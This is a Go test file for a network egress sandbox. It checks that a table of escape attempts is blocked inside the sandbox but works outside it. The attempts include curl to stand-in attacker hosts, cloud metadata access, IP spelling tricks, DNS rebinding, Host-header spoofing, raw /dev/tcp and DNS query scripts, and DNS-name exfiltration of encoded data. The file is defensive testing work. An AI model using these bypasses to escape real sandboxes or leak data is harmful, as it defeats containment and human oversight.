package egress

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// Scripts that try to get out say "reached" if they do.
const (
	tcpReach = `python3 -c 'import sys, socket
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
s.sendall(b"GET / HTTP/1.0\r\n\r\n")
if b"hello" in s.recv(200): print("reached")' `
	udpAsk = `python3 - <<'X'
import socket, struct, sys
def name(n): return b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0"
def ask(server, n, tcp=False):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name(n) + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5); s.connect((server, 53))
    s.send(struct.pack(">H", len(q)) + q if tcp else q)
    r = s.recv(600)[2 if tcp else 0:]
    return r[3] & 15, r[-4:]
X
`
)

// bashTalk sends its input to a host and port and prints what comes back.
const bashTalk = `talk() { exec 3<>"/dev/tcp/$1/$2" && cat >&3 && timeout 2 cat <&3; }; `

// TestBypass tries one way out after another. Each is a script that says
// "reached"; outside it has to, or it would prove nothing.
func TestBypass(t *testing.T) {
	curl := func(args string) string {
		return "curl -sS -m 5 -g " + args + " 2>&1 | grep -q '^hello' && echo reached"
	}
	ask := func(server, name, tcp string) string {
		return strings.Replace(udpAsk, "\nX\n", fmt.Sprintf("\ncode, last = ask(%q, %q, %s)\nif code == 0 and last == bytes([140, 82, 112, 4]): print('reached')\nX\n", server, name, tcp), 1)
	}
	for _, c := range []struct {
		name    string
		script  string
		flags   []string
		control string // where the script cannot be its own
		denied  string // what the user is told
	}{
		{name: "address literal", script: curl("http://" + evil4), denied: evil4 + ":80, allowed by --allow " + evil4},
		{name: "address of an allowed host", script: curl("http://" + good4), denied: good4 + ":80"},
		{name: "IPv6 literal", script: curl("http://[" + evil6 + "]"), denied: evil6},
		{name: "mapped IPv6 literal", script: tcpReach + "::ffff:" + evil4 + " 80", denied: evil4},
		{name: "private address", script: curl("http://" + private4), denied: private4},
		{name: "metadata", script: curl("http://" + metadata4), denied: metadata4},
		{name: "another port of an allowed host", script: curl("http://good.example:8080/"), denied: "good.example:8080"},
		{name: "another port of an allowed address", script: tcpReach + good4 + " 8080", flags: []string{"--allow", good4 + ":80"}, denied: good4 + ":8080"},
		{name: "a name below an allowed one", script: curl("http://www.good.example/"), denied: "www.good.example"},
		{name: "another name server", script: ask(evil4, "evil.example", "False"), denied: "evil.example"},
		{name: "another name server, IPv6", script: ask(evil6, "evil.example", "False"), denied: "evil.example"},
		{name: "a name server by TCP", script: ask(evil4, "evil.example", "True"), denied: "evil.example"},
		{name: "DNS over TLS", script: "timeout 5 openssl s_client -connect " + evil4 + ":443 -servername evil.example </dev/null 2>&1 | grep -q 'CN *= *world' && echo reached", denied: evil4},
		{name: "DNS over HTTPS", script: curl("https://evil.example/dns-query?dns=AAAB"), denied: "evil.example"},
		{name: "a name that leads to a private address", script: curl("http://rebind.good.example"), flags: []string{"--allow", "*.good.example"}, denied: "rebind.good.example"},
		{name: "a name that leads to metadata", script: curl("http://meta.good.example"), flags: []string{"--allow", "*.good.example"}, denied: "meta.good.example"},
		{name: "a name that leads to a mapped private address", script: curl("http://mapped.good.example"), control: curl("http://" + private4), flags: []string{"--allow", "*.good.example"}},
		{name: "a name that leads to 198.18.0.0/15", script: curl("http://clash.good.example"), flags: []string{"--allow", "*.good.example"}, denied: "clash.good.example"},
		{name: "spelled in octal", script: curl("http://0214.0122.0160.04/"), control: curl("http://" + evil4), denied: ""},
		{name: "spelled as a number", script: curl("http://2354212868/"), control: curl("http://" + evil4), denied: ""},
		{name: "TLS for another host", script: curl("--connect-to evil.example:443:good.example:443 https://evil.example/"), denied: "good.example:443"},
		{name: "HTTP for another host", script: curl("-H 'Host: evil.example' http://good.example/"), denied: "good.example:80"},
		{name: "two Hosts", script: bashTalk + `printf 'GET / HTTP/1.0\r\nHost: good.example\r\nHost: evil.example\r\n\r\n' | talk good.example 80 | grep -q hello && echo reached`, control: curl("http://good.example")},
		{name: "the name in another header", script: bashTalk + `printf 'GET / HTTP/1.1\nHost: evil.example\n\n' | talk good.example 80 | grep -q hello && echo reached`},
		{name: "a fake address that nobody has", script: tcpReach + "198.19.200.200 80", control: tcpReach + evil4 + " 80", denied: "198.19.200.200"},
		{name: "UDP to an address", script: strings.Replace(udpAsk, "\nX\n", fmt.Sprintf("\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect((%q, 443)); s.send(b'x')\ntry:\n  s.recv(9); print('reached')\nexcept ConnectionRefusedError: pass\nX\n", evil4), 1),
			control: "echo reached", denied: evil4 + ":443"},
		{name: "the data in names below an allowed one", script: ask("198.18.0.53", "c2VjcmV0.evil.example", "False"), control: ask(evil4, "evil.example", "False"), denied: "c2vjcmv0.evil.example"},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newBench(t, append([]string{"--allow", "good.example"}, c.flags...)...)
			var out string
			_, reached := theWorld.since(func() { out, _ = b.inside(bare + c.script) })
			require.NotContains(t, out, "reached")
			for _, r := range reached {
				require.Contains(t, []string{good4 + ":80", good4 + ":443", "[" + good6 + "]:80", "[" + good6 + "]:443"}, r, "nothing else was dialled")
			}
			if c.denied != "" {
				require.Contains(t, out, c.denied, "the user is told")
			}
			control := c.script
			if c.control != "" {
				control = c.control
			}
			out, _ = b.outside(control)
			require.Contains(t, out, "reached", "the control: outside it works")
		})
	}
}

// TestQuestions holds that the host asks for no name but those that somebody
// connects to, and for nothing but addresses.
func TestQuestions(t *testing.T) {
	b := newBench(t, "--allow", "*.good.example", "--allow", "good.example")
	script := bare + `for i in $(seq 20); do getent hosts secret$i.good.example; done >/dev/null; ! command -v busybox >/dev/null || { busybox nslookup -type=txt api.good.example; busybox nslookup -type=mx evil.example; } >/dev/null 2>&1; curl -sS -m 5 http://good.example/`
	var out string
	asked, _ := theWorld.since(func() { out, _ = b.inside(script) })
	require.Contains(t, out, "hello good.example")
	require.Equal(t, []string{"good.example."}, asked)
	asked, _ = theWorld.since(func() { b.outside(script) })
	require.Contains(t, asked, "secret7.good.example.", "the control: outside each is asked for")
}

// TestNothingAllowed has no network at all.
func TestNothingAllowed(t *testing.T) {
	b := newBench(t)
	var out string
	asked, reached := theWorld.since(func() {
		out, _ = b.inside("curl -sS -m 5 http://" + evil4 + "; curl -sS -m 5 http://good.example; cat /proc/net/route | wc -l; ls /sys/class/net")
	})
	require.Contains(t, out, "curl: (7)")
	require.Contains(t, out, "curl: (6)")
	require.Contains(t, out, "\n1\nlo\n")
	require.Empty(t, asked)
	require.Empty(t, reached)
}
